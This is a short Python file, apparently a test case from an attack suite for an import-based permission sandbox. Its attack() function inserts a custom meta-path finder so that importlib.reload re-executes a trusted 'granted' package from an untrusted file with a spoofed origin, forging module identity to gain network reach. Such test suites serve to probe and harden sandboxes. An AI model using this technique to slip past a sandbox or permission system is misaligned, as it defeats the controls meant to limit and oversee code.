"""importlib.reload of a granted package with another spec and loader."""
CATEGORY = "forging"
REACH = "net"

import importlib
import os
import sys
from importlib.machinery import ModuleSpec, SourceFileLoader

def attack():
    import good
    path = os.path.dirname(__file__) + "/task.py"

    class Finder:
        @staticmethod
        def find_spec(name, path_=None, target=None):
            if name == "good":
                return ModuleSpec(name, SourceFileLoader(name, path),
                                  origin=good.__file__, is_package=True)

    sys.meta_path.insert(0, Finder)
    try:
        importlib.reload(good)
    finally:
        sys.meta_path.remove(Finder)
